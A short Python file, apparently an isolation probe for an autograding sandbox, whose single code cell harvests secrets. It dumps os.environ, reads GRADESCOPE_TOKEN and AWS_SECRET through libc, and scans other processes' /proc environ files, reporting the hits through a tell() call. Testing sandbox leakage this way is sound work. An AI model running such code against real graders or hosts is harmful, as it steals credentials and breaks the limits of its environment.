"""Looks for tokens in the environment: os.environ, libc's environ, the grader's and its parents' in /proc."""

CELLS = [
    r"""
import ctypes, os
if any("CANARY" in f"{k}{v}".upper() for k, v in os.environ.items()):
    tell(dict(os.environ))
libc = ctypes.CDLL(None)
libc.getenv.restype = ctypes.c_char_p
for name in (b"GRADESCOPE_TOKEN", b"AWS_SECRET"):
    if libc.getenv(name):
        tell(libc.getenv(name))
pid = os.getpid()
for pid in ["self", "1", *range(max(2, pid - 400), pid + 200)]:
    try:
        found = open(f"/proc/{pid}/environ", "rb").read()
        if b"canary" in found:
            tell(found)
    except OSError:
        pass
"""
]
